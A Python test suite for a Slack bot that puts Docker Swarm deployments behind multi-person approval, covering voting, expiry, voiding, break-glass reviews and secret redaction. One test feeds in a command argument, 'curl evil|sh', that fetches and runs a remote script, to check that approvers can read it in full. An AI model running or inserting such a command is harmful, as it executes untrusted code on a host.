"""Other people's yes, from the request to the end, on a whole worker in memory."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest

from bot.domain.approval import Approval, ApprovalNote
from bot.domain.change import ActionKind
from bot.domain.plan import FieldChange
from bot.domain.policy import NOBODY, Grant, Members, VerbGroup, Window
from bot.ports import SlackRefusedError
from bot.rendering.guard import guard
from bot.rendering.voice import BlockKitVoice
from bot.usecases.speak import parent_id
from tests.fakes.clock import FakeClock
from tests.unit.domain.approval.samples import an_approval
from tests.unit.usecases.approving import (
    CAT,
    DAN,
    EVE,
    RULE,
    SAM,
    SRE,
    Approving,
    a_policy,
    asking,
    changed,
)
from tests.unit.usecases.bed import ANN, BOB

UPDATE = "update --image reg/httpd:v2 web"


def rollout_of(name: str) -> str:
    return name.replace("p-", "r-")


def test_two_people_say_yes_and_the_very_plan_runs() -> None:
    bed = asking()
    name = bed.asked()
    rollout = rollout_of(name)
    assert bed.rollout(rollout).state.value == "awaiting"
    assert bed.image() == "reg/httpd:v1"
    assert bed.store.live_rollout("default", "web") is None
    bed.votes(name, CAT)
    assert bed.approval(name).state.value == "pending"
    assert "1 of 2" in bed.request_of(name).text
    bed.votes(name, DAN)
    assert bed.approval(name).state.value == "approved"
    done = bed.until(rollout, "completed")
    assert bed.image() == "reg/httpd:v2"
    assert bed.payload(rollout)["approval_id"] == name
    assert done.plan is not None
    assert done.plan.fingerprint == bed.approval(name).fingerprint


def test_both_messages_link_to_each_other() -> None:
    bed = asking()
    name = bed.asked()
    bed.votes(name, CAT, DAN)
    bed.until(rollout_of(name), "completed")
    (request,), (parent,) = bed.slack.shown(f"{name}.parent"), bed.parents(rollout_of(name))
    assert f"p{parent.ts.replace('.', '')}|{rollout_of(name)}>" in request.content.text
    assert f"p{request.ts.replace('.', '')}|{name}>" in parent.content.text


def test_the_request_says_what_it_is_about() -> None:
    bed = asking()
    name = bed.asked("update --image reg/httpd:v2 --env-add PASSWORD=hunter2 --reason why web")
    content = bed.request_of(name)
    assert content.metadata == {
        "event_type": "waggle_approval",
        "event_payload": {
            "approval_id": name,
            "plan_fingerprint": bed.approval(name).fingerprint,
            "state": "pending",
            "cluster": "default",
            "service": "web",
            "votes": 0,
            "required": 2,
            "rollout_id": rollout_of(name),
        },
    }
    for told in (
        "<@U1ANN>", "“why”", "production", "3 tasks", "environments.production.approvals",
        "<!subteam^S0SRE>", f"<@{CAT.user}>", "0 of 2", "<!date^", "digest", f"approve {name}",
    ):  # fmt: skip
        assert told in content.text, told
    assert "hunter2" not in content.text
    assert "hunter2" not in bed.store.get(type(bed.approval(name)), name).value.request.line  # type: ignore[union-attr]  # it is there
    assert bed.approval(name).request.command == {"options": {"reason": "why"}}


def test_who_asked_counts_for_nothing_by_button_and_by_command() -> None:
    """ann is among the approvers, too."""
    bed = asking()
    name = bed.asked()
    assert "yourself" in bed.clicks(ActionKind.APPROVE, name, ANN)
    assert "yourself" in bed.says(f"approve {name}", ANN)
    assert "yourself" in bed.says(f"approve {rollout_of(name)}", ANN)
    assert bed.approval(name).votes == ()


def test_self_approval_counts_where_the_rule_allows_it() -> None:
    bed = asking(replace(RULE, self_approval=True))
    name = bed.asked()
    bed.votes(name, ANN, CAT)
    assert bed.approval(name).state.value == "approved"


def test_the_same_person_counts_once() -> None:
    bed = asking()
    name = bed.asked()
    bed.votes(name, CAT)
    assert "already" in bed.clicks(ActionKind.APPROVE, name, CAT)
    assert "already" in bed.says(f"reject {name} I changed my mind", CAT)
    assert bed.approval(name).state.value == "pending"


def test_a_group_counts_while_one_is_in_it() -> None:
    bed = asking()
    name = bed.asked()
    assert "not among those" in bed.clicks(ActionKind.APPROVE, name, SAM)
    bed.people.members[SRE] = {SAM.user}
    bed.votes(name, SAM)
    bed.people.away = True
    bed.votes(name, CAT)
    assert bed.approval(name).yes == (SAM.user, CAT.user)
    assert bed.rollout(rollout_of(name)).state.value == "refused"  # sam counts no more
    assert bed.approval(name).state.value == "void"
    assert SAM.user in bed.approval(name).moved[0]
    assert bed.image() == "reg/httpd:v1"


def test_a_word_is_answered_with_how_many_said_yes() -> None:
    bed = asking()
    name = bed.asked()
    assert f"{name} is pending, 1 of 2 said yes." in bed.clicks(ActionKind.APPROVE, name, CAT)


def test_the_right_to_approve_is_needed_besides() -> None:
    bed = asking(replace(RULE, approvers=Members(everyone=True)))
    name = bed.asked()
    told = bed.clicks(ActionKind.APPROVE, name, EVE)
    assert told.startswith("Not allowed: ")
    assert told.endswith("Nothing was changed.")
    assert bed.approval(name).votes == ()


def test_one_no_ends_it_and_says_why_to_who_asked() -> None:
    bed = asking()
    name = bed.asked()
    bed.votes(name, CAT)
    answer = bed.says(f"reject {name} not before the migration", DAN)
    assert "rejected" in answer
    shown = bed.request_of(name)
    assert "not before the migration" in shown.text
    assert not [block for block in shown.blocks if block["type"] == "actions"]
    bed.tick()
    assert any("<@U1ANN>" in note for note in bed.notes_of(name))
    assert bed.rollout(rollout_of(name)).state.value == "refused"
    assert "rejected already" in bed.clicks(ActionKind.APPROVE, name, SAM)
    assert bed.image() == "reg/httpd:v1"


def test_who_asked_and_an_approver_may_cancel_nobody_else() -> None:
    bed = asking()
    name = bed.asked()
    assert "Not allowed" in bed.says(f"cancel {name}", EVE)
    bed.says(f"cancel {name}", ANN)
    assert bed.approval(name).state.value == "cancelled"
    other = bed.asked("update --image reg/httpd:v3 web")
    bed.says(f"cancel {rollout_of(other)}", BOB)
    assert bed.approval(other).ended_by == BOB.user
    assert "Cancelled by <@U2BOB>" in bed.request_of(other).text


def test_it_expires_at_the_second_and_reminds_before() -> None:
    bed = asking()
    name = bed.asked()
    bed.votes(name, CAT)
    until = bed.approval(name).expires_at
    bed.clock.advance(until - bed.clock.now() - timedelta(minutes=10, seconds=1))
    bed.tick(0)
    assert bed.notes_of(name) == []
    bed.tick(1)
    bed.tick(1)
    (reminder,) = bed.notes_of(name)
    assert "<!subteam^S0SRE>" in reminder
    assert "1 yes" in reminder
    bed.clock.advance(until - bed.clock.now() - timedelta(seconds=1))
    bed.tick(0)
    assert bed.approval(name).state.value == "pending"
    bed.tick(1)
    assert bed.approval(name).state.value == "expired"
    assert bed.rollout(rollout_of(name)).state.value == "refused"
    assert "expired" in bed.request_of(name).text
    assert "expired" in bed.clicks(ActionKind.APPROVE, name, DAN)


def test_a_vote_at_the_end_does_not_count_though_no_tick_has_looked() -> None:
    bed = asking()
    name = bed.asked()
    bed.votes(name, CAT)
    bed.clock.advance(bed.approval(name).expires_at - bed.clock.now())
    assert "too late" in bed.clicks(ActionKind.APPROVE, name, DAN)
    assert bed.approval(name).state.value == "expired"


def test_the_clock_of_redis_decides_and_a_process_that_is_late_does_not() -> None:
    bed = asking()
    bed.shared = FakeClock(bed.clock.now() + timedelta(hours=1))
    bed.use = bed.wired()
    name = bed.asked()
    bed.votes(name, CAT)
    bed.clock.advance(timedelta(hours=2))
    bed.tick()
    assert bed.approval(name).state.value == "pending"
    bed.votes(name, DAN)
    bed.until(rollout_of(name), "completed")
    other = bed.asked("scale web=4")
    bed.shared.advance(timedelta(minutes=30))
    bed.tick()
    assert bed.approval(other).state.value == "expired"


def test_an_update_from_outside_makes_it_void_and_says_what_moved() -> None:
    bed = asking()
    name = bed.asked()
    view = bed.swarm.service("web")
    spec = {**view.spec, "Mode": {"Replicated": {"Replicas": 5}}}
    bed.swarm.update_service(view.id, view.version, spec)
    bed.votes(name, CAT, DAN)
    assert bed.approval(name).state.value == "void"
    assert "replicas 3 → 5" in bed.request_of(name).text
    assert bed.rollout(rollout_of(name)).state.value == "refused"
    assert bed.image() == "reg/httpd:v1"
    bed.tick()
    assert any("<@U1ANN>" in note for note in bed.notes_of(name))


def test_a_moved_tag_makes_it_void_and_names_both_digests() -> None:
    bed = asking()
    name = bed.asked()
    old = bed.approval(name).digest_new
    bed.swarm.add_image("reg/httpd:v2", digest="sha256:" + "9" * 64)
    bed.votes(name, CAT, DAN)
    assert bed.approval(name).state.value == "void"
    told = bed.request_of(name).text
    assert "the tag moved" in told
    assert old[7:19] in told
    assert "9" * 12 in told


def test_a_changed_policy_makes_it_void() -> None:
    bed = asking()
    name = bed.asked()
    bed.votes(name, CAT)
    changed(bed, required=1)
    bed.votes(name, DAN)
    assert bed.approval(name).state.value == "void"
    assert "the policy was changed" in bed.request_of(name).text


def test_a_freeze_that_has_begun_makes_it_void_even_for_who_approved() -> None:
    bed = asking()
    name = bed.asked()
    now = bed.clock.now()
    window = Window(environment="production", begins=now, ends=now + timedelta(hours=1))
    bed.calendar.known.append(window)
    bed.votes(name, CAT, DAN)  # to approve needs no thaw
    assert bed.approval(name).state.value == "void"
    assert "is frozen until" in bed.request_of(name).text
    assert "it cannot run now" in bed.request_of(name).text
    assert "not what would run" not in bed.request_of(name).text


def test_whose_lock_makes_it_void_stands_by_name_and_nobody_else_does() -> None:
    bed = asking()
    name = bed.asked()
    bed.type("lock --reason 'ask <@U7TOM>' web", SAM)
    bed.work()
    bed.votes(name, CAT, DAN)
    shown = bed.request_of(name).text
    assert "locked by <@U6SAM>" in shown
    assert "it cannot run now" in shown
    assert "ask &lt;@U7TOM&gt;" in shown


def test_a_right_that_is_gone_makes_it_void() -> None:
    bed = asking()
    name = bed.asked()
    bed.votes(name, CAT)
    policy = bed.policies.policy
    roles = {**policy.roles, "team": Members(users=frozenset({CAT.user, DAN.user}))}
    bed.policies.policy = replace(policy, roles=roles)  # same hash: the rights alone decide here
    bed.votes(name, DAN)
    assert bed.approval(name).state.value == "void"
    assert "no rule lets you update web" in bed.request_of(name).text


def test_another_rollout_of_the_service_makes_it_void_and_is_named() -> None:
    bed = asking()
    first, second = bed.asked(), bed.asked("update --image reg/httpd:v3 web", BOB)
    bed.votes(first, CAT, DAN)
    bed.votes(second, CAT, DAN)
    assert bed.approval(second).state.value == "void"
    assert rollout_of(first) in bed.request_of(second).text
    bed.until(rollout_of(first), "completed")
    assert bed.image() == "reg/httpd:v2"


def test_plan_again_asks_anew_in_the_name_of_who_clicks() -> None:
    bed = asking()
    name = bed.asked()
    changed(bed)
    bed.votes(name, CAT, DAN)
    labels = [b["text"]["text"] for b in bed.request_of(name).blocks[-1]["elements"]]
    assert labels == ["Plan again"]
    bed.clicks(ActionKind.PLAN_AGAIN, name, BOB)
    again = bed.approval(name).again
    assert bed.rollout(again).request.by == BOB
    assert bed.rollout(again).state.value == "awaiting"
    new = again.replace("r-", "p-")
    bed.settle(1)
    assert f"Planned again as `{new}`" in bed.request_of(name).text
    assert f"already, as {new}." in bed.clicks(ActionKind.PLAN_AGAIN, name, CAT)
    assert "yourself" in bed.clicks(ActionKind.APPROVE, new, BOB)
    bed.votes(new, CAT, DAN)
    bed.until(again, "completed")


def test_what_is_planned_again_and_asks_nobody_is_named_itself() -> None:
    bed = asking()
    name = bed.asked()
    changed(bed)
    bed.votes(name, CAT, DAN)
    changed(bed, required=0)
    bed.clicks(ActionKind.PLAN_AGAIN, name, BOB)
    again = bed.approval(name).again
    bed.until(again, "completed")
    assert f"Planned again as `{again}`" in bed.request_of(name).text


def test_plan_again_is_for_a_void_one_and_for_who_may() -> None:
    bed = asking()
    name = bed.asked()
    assert "pending" in bed.clicks(ActionKind.PLAN_AGAIN, name, BOB)
    bed.says(f"cancel {name}", ANN)
    assert "cancelled" in bed.clicks(ActionKind.PLAN_AGAIN, name, BOB)
    other = bed.asked()
    changed(bed)
    bed.votes(other, CAT, DAN)
    assert "Not allowed" in bed.clicks(ActionKind.PLAN_AGAIN, other, EVE)
    assert bed.clicks(ActionKind.PLAN_AGAIN, "p-none", BOB) == "That request is gone."


def test_the_rights_hold_right_before_the_post() -> None:
    """Between the plan and the post the votes are asked for once more."""
    bed = asking()
    name = bed.asked()

    def leave(at: str) -> None:
        if at == "announce.after_commit":
            changed(bed, required=1)

    bed.fault = leave
    bed.votes(name, CAT, DAN)
    done = bed.until(rollout_of(name), "failed")
    assert "not allowed any more" in done.reason
    assert bed.approval(name).state.value == "void"
    assert bed.image() == "reg/httpd:v1"


def test_an_update_right_before_the_post_supersedes_and_voids() -> None:
    bed = asking()
    name = bed.asked()

    def meddle(at: str) -> None:
        if at == "announce.after_commit":
            view = bed.swarm.service("web")
            spec = {**view.spec, "Mode": {"Replicated": {"Replicas": 5}}}
            bed.swarm.update_service(view.id, view.version, spec)

    bed.fault = meddle
    bed.votes(name, CAT, DAN)
    bed.until(rollout_of(name), "superseded")
    assert bed.approval(name).state.value == "void"


def test_an_approved_one_that_could_not_start_for_long_is_void() -> None:
    bed = asking()
    name = bed.asked()
    bed.clock.advance(60 * 20)  # longer than a command waits for a worker: it waited for people
    bed.votes(name, CAT)
    bed.click(ActionKind.APPROVE, name, DAN)
    job = bed.queue.take()
    bed.use.runner(job.name).run(job.subject)
    bed.clock.advance(60 * 16)  # and then no worker came
    bed.work()
    assert bed.approval(name).state.value == "void"
    assert "in time" in bed.request_of(name).text


def test_a_dry_run_says_that_it_would_ask_and_asks_nobody() -> None:
    bed = asking()
    told = bed.says(f"{UPDATE} --dry-run", ANN)
    assert "would ask for approval" in told
    assert "needs the yes of 2 people" in told
    assert bed.store.recent_approvals("default", 9) == []
    assert "would ask for approval" in bed.says("rm web --dry-run", ANN)


def test_a_closed_channel_refuses_the_command() -> None:
    bed = asking()
    bed.slack.fail_channel("C1", SlackRefusedError("not_in_channel"))
    made = bed.type(UPDATE)
    bed.work()
    told = bed.private(made)
    assert "cannot post in this channel (Slack says `not_in_channel`)." in told
    assert told.lower().count("nothing was changed") == 1
    assert bed.rollout(made).state.value == "refused"
    assert bed.approval(made.replace("r-", "p-")).state.value == "cancelled"


def test_a_channel_found_closed_by_the_steward_refuses_it_too() -> None:
    bed = asking()
    bed.slack.fail_channel("C1", SlackRefusedError("is_archived"))

    def die(at: str) -> None:
        if at == "ask.after_commit":
            bed.queue.jobs.clear()
            raise RuntimeError

    bed.fault = die
    made = bed.type(UPDATE)
    with pytest.raises(RuntimeError):
        bed.work()
    bed.fault = lambda _at: None
    bed.tick()
    bed.tick()
    assert bed.approval(made.replace("r-", "p-")).state.value == "cancelled"
    assert "archived" in bed.private(made)


def test_a_rule_without_approvers_is_said_at_once() -> None:
    bed = asking(replace(RULE, approvers=Members()))
    made = bed.type(UPDATE)
    bed.work()
    assert "names nobody" in bed.private(made)
    gone = bed.type("rm web")
    bed.work()
    assert "names nobody" in bed.private(gone)


def test_moving_a_service_into_production_asks_for_productions_approvals() -> None:
    bed = asking(lines=("create --name test reg/httpd:v1",))
    bed.done("update --image reg/httpd:v2 test")
    name = bed.asked("update --constraint-add node.labels.env==prod test")
    assert bed.approval(name).environment == "production"


def test_a_rollback_needs_the_right_alone_unless_the_rule_lists_it() -> None:
    bed = asking(lines=("update --image reg/httpd:v2 web",))
    bed.done("rollback web", "rolled_back")
    listed = replace(RULE, verbs=RULE.verbs | {VerbGroup.ROLLBACK})
    bed = asking(listed, lines=("update --image reg/httpd:v2 web",))
    name = bed.asked("rollback web")
    bed.votes(name, CAT, DAN)
    bed.until(rollout_of(name), "rolled_back")
    assert bed.image() == "reg/httpd:v1"


def test_a_live_approved_rollout_is_acted_on_by_right() -> None:
    bed = asking()
    bed.swarm.add_image("reg/httpd:crash", ends_in=timedelta(seconds=1), exit_code=1)
    name = bed.asked("update --image reg/httpd:crash web")
    bed.votes(name, CAT, DAN)
    bed.until(rollout_of(name), "paused")
    bed.click(ActionKind.RESUME, rollout_of(name), BOB)
    bed.until(rollout_of(name), "progressing")
    bed.click(ActionKind.ROLLBACK, rollout_of(name), BOB)
    bed.until(rollout_of(name), "rolled_back")


def test_an_approved_removal_needs_no_further_click() -> None:
    bed = asking()
    made = bed.type("rm web")
    bed.work()
    name = made.replace("c-", "p-")
    assert bed.change(made).state.value == "awaiting"
    assert "remove service web" in bed.request_of(name).text
    bed.votes(name, CAT, DAN)
    assert bed.change(made).state.value == "applied"
    assert f"|{name}>" in bed.parent(made).text
    assert f"|{made}>" in bed.request_of(name).text


def test_a_removal_of_what_moved_is_void() -> None:
    bed = asking()
    made = bed.type("rm web")
    bed.work()
    view = bed.swarm.service("web")
    bed.swarm.update_service(
        view.id, view.version, {**view.spec, "Mode": {"Replicated": {"Replicas": 7}}}
    )
    name = made.replace("c-", "p-")
    bed.votes(name, CAT, DAN)
    assert bed.approval(name).state.value == "void"
    assert bed.change(made).state.value == "refused"
    assert "was changed meanwhile" in bed.request_of(name).text
    bed.clicks(ActionKind.PLAN_AGAIN, name, BOB)
    assert bed.change(bed.approval(name).again).state.value == "awaiting"


def test_a_removal_is_checked_once_more_right_before() -> None:
    bed = asking()
    made = bed.type("rm web")
    bed.work()

    def leave(at: str) -> None:
        if at == "change.after_plan":
            changed(bed, required=1)

    bed.fault = leave
    name = made.replace("c-", "p-")
    bed.votes(name, CAT, DAN)
    assert bed.change(made).state.value == "failed"
    assert bed.approval(name).state.value == "void"
    assert bed.swarm.service("web").name == "web"


def test_a_node_asks_as_well_and_shows_what_runs_there() -> None:
    bed = asking()
    made = bed.type("node update --availability drain n2")
    bed.work()
    name = made.replace("c-", "p-")
    assert "n2" in bed.request_of(name).text
    assert bed.approval(name).blast.nodes == ("n2",)
    bed.votes(name, CAT, DAN)
    assert bed.change(made).state.value == "applied"


def test_requests_are_listed_the_pending_ones_first() -> None:
    bed = asking()
    first = bed.asked()
    bed.says(f"cancel {first}", ANN)
    second = bed.asked("update --image reg/httpd:v3 web")
    third = bed.asked("scale web=4")
    bed.says(f"cancel {third}", ANN)
    found = [stored.value.id for stored in bed.store.recent_approvals("default", 9)]
    assert found == [third, second, first]


def test_what_is_not_known_is_said() -> None:
    bed = asking()
    assert "no request" in bed.says("approve p-none", CAT)


def test_a_policy_that_lets_nobody_lets_nobody_approve() -> None:
    bed = asking()
    name = bed.asked()
    bed.policies.policy = NOBODY
    assert "Not allowed" in bed.clicks(ActionKind.APPROVE, name, CAT)
    assert bed.approval(name).votes == ()


# -- broken glass


def test_broken_glass_runs_at_once_is_loud_and_asks_for_a_review() -> None:
    bed = asking()
    made = bed.type('update --image reg/httpd:v2 --break-glass "shop is down" web', CAT)
    bed.until(made, "completed")
    bed.tick()
    assert "Glass broken" in bed.parent(made).text
    assert "shop is down" in bed.parent(made).text
    loud = [m.content.text for m in bed.thread(made) if m.broadcast]
    assert len(loud) == 3  # begun, ended, asks for a review
    assert all("Glass broken* by <@U3CAT>: “shop is down”" in text for text in loud)
    assert "yourself" in bed.clicks(ActionKind.REVIEW, made, CAT)
    bed.clicks(ActionKind.REVIEW, made, DAN)
    assert "already" in bed.clicks(ActionKind.REVIEW, made, DAN)
    assert "Not allowed" in bed.clicks(ActionKind.REVIEW, made, EVE)
    bed.clicks(ActionKind.REVIEW, made, BOB)
    bed.tick()
    (asks,) = bed.slack.shown(f"{made}.review")
    assert "It is reviewed: ✓ <@U4DAN>, ✓ <@U2BOB>" in asks.content.text
    assert not [block for block in asks.content.blocks if block["type"] == "actions"]
    assert "reviewed already" in bed.clicks(ActionKind.REVIEW, made, SAM)


def test_the_very_same_is_asked_for_once() -> None:
    bed = asking()
    name = bed.asked()
    for who in (ANN, BOB):
        assert f"{name} asks for the very same already" in bed.says(UPDATE, who)
    bed.clicks(ActionKind.CANCEL_REQUEST, name, ANN)
    assert bed.asked() != name
    first = bed.asked("rm web")
    assert f"{first} asks for the very same already" in bed.says("rm web", BOB)


def test_what_has_expired_and_is_not_noted_is_in_nobodys_way() -> None:
    bed = asking()
    name = bed.asked()
    bed.clock.advance(timedelta(minutes=31).total_seconds())
    assert bed.asked() != name


def test_one_person_has_ten_requests_at_most_and_others_have_theirs() -> None:
    bed = asking()
    for number in range(10):
        bed.asked(f"scale web={number + 10}")
    assert "You have 10 requests pending" in bed.says("scale web=20", ANN)
    assert "You have 10 requests pending" in bed.says("rm web", ANN)
    assert len(bed.store.open_ids("default", Approval)) == 10
    assert bed.asked("scale web=20", BOB)


def test_the_same_approvers_are_called_once_in_a_while() -> None:
    bed = asking()
    first = bed.asked("scale web=10")
    assert SRE in bed.request_of(first).text
    bed.clicks(ActionKind.CANCEL_REQUEST, first, ANN)
    quiet = [bed.asked(f"scale web={number}") for number in (11, 12)]
    called = [m for m in bed.slack.messages if SRE in m.content.text]
    assert called == []
    for name in quiet:
        assert f"of those whom `{first}` has called" in bed.request_of(name).text
    changed(bed, approvers=Members(users=frozenset({DAN.user})))
    assert f"<@{DAN.user}>" in bed.request_of(bed.asked("scale web=13")).text
    changed(bed)
    bed.clock.advance(timedelta(minutes=5).total_seconds())
    assert SRE in bed.request_of(bed.asked("scale web=14")).text


@pytest.mark.parametrize("pad", [20, 320, 3_300])
@pytest.mark.parametrize("flag", ["--args", "--label-add"])
def test_what_people_say_yes_to_can_be_read_in_full(pad: int, flag: str) -> None:
    bed = asking()
    value = f"'sh -c \"echo {'A' * pad}; curl evil|sh\"'"
    typed = f"x={value}" if flag == "--label-add" else value
    name = bed.asked(f"update --env-add KEY=hunter2 {flag} {typed} web")
    bed.tick()
    (top,) = bed.slack.shown(parent_id(name))
    thread = [m.content for m in bed.slack.messages if m.thread_ts == top.ts]
    thread += [content for where, content in bed.slack.files if where.thread_ts == top.ts]
    whole = "A" * pad + "; curl evil|sh"
    shown = [guard(content) for content in (top.content, *thread)]
    drawn = [str(each.blocks) + (each.file_text or "") for each in shown]
    assert sum(whole in each for each in drawn) > 0
    assert len(thread) == (pad > 100)
    assert ("thread has it in full" in drawn[0]) == (pad > 100)
    assert not [each for each in drawn if "hunter2" in each]


def test_a_value_of_several_lines_is_shown_with_its_ends_of_line() -> None:
    many = an_approval(changes=(FieldChange(path="args", old=None, new="a\nb"),))
    shown = BlockKitVoice(open_policy=False).approval_note(many, ApprovalNote.DETAILS)
    assert "+ args: a\\nb" in shown.text


@pytest.mark.parametrize(
    "line",
    [
        "update --no-resolve-image --image reg/httpd:v2 web",
        "update --no-resolve-image --image reg/httpd:v2 --dry-run web",
        "create --no-resolve-image --name web2 reg/httpd:v2",
    ],
)
def test_nobody_is_asked_about_a_tag_that_may_move(line: str) -> None:
    bed = asking()
    told = bed.says(line, ANN)
    assert "`reg/httpd:v2` is a tag" in told
    assert "Leave --no-resolve-image out" in told
    assert not bed.store.open_ids("default", Approval)


def test_a_digest_may_be_approved_unresolved_and_a_tag_goes_where_nobody_is_asked() -> None:
    bed = asking()
    line = "update --no-resolve-image --image reg/httpd:v2"
    bed.asked(f"{line}@sha256:{'ab' * 32} web")
    bed.policies.policy = a_policy(replace(RULE, verbs=frozenset()))
    assert bed.done(f"{line} web").state.value == "completed"


def test_glass_is_broken_by_the_named_people_only() -> None:
    bed = asking()
    made = bed.type("update --image reg/httpd:v2 --break-glass now web", DAN)
    bed.work()
    assert "break the glass" in bed.private(made)
    assert bed.image() == "reg/httpd:v1"


def test_glass_broken_over_a_removal_asks_for_no_click_and_for_a_review() -> None:
    bed = asking()
    made = bed.type("rm --break-glass 'it eats the disk' web", CAT)
    bed.work()
    assert bed.change(made).state.value == "applied"
    bed.tick()
    assert "Glass broken" in bed.parent(made).text
    bed.clicks(ActionKind.REVIEW, made, DAN)
    assert bed.change(made).reviews == (DAN.user,)
    assert "nothing to review" in bed.clicks(ActionKind.REVIEW, "r-none", DAN)


def test_a_removal_is_reviewed_by_who_may_approve_where_the_service_was() -> None:
    bed = asking()
    made = bed.type("rm --break-glass 'it eats the disk' web", CAT)
    bed.work()
    rules = a_policy(version="two")
    may = frozenset({VerbGroup.APPROVE})
    elsewhere = Grant(name="eve", role="eve", may=may, environments=frozenset({"default"}))
    bed.policies.policy = replace(
        rules,
        roles={**rules.roles, "eve": Members(users=frozenset({EVE.user}))},
        grants=(*rules.grants, elsewhere),
    )
    bed.tick()
    assert "Not allowed" in bed.clicks(ActionKind.REVIEW, made, EVE)
    assert bed.change(made).reviews == ()
    bed.clicks(ActionKind.REVIEW, made, DAN)
    assert bed.change(made).reviews == (DAN.user,)


def test_there_is_nothing_to_review_where_no_glass_was_broken() -> None:
    bed = Approving()
    done = bed.done("create --name web reg/httpd:v1")
    assert "nothing to review" in bed.clicks(ActionKind.REVIEW, done.id, BOB)
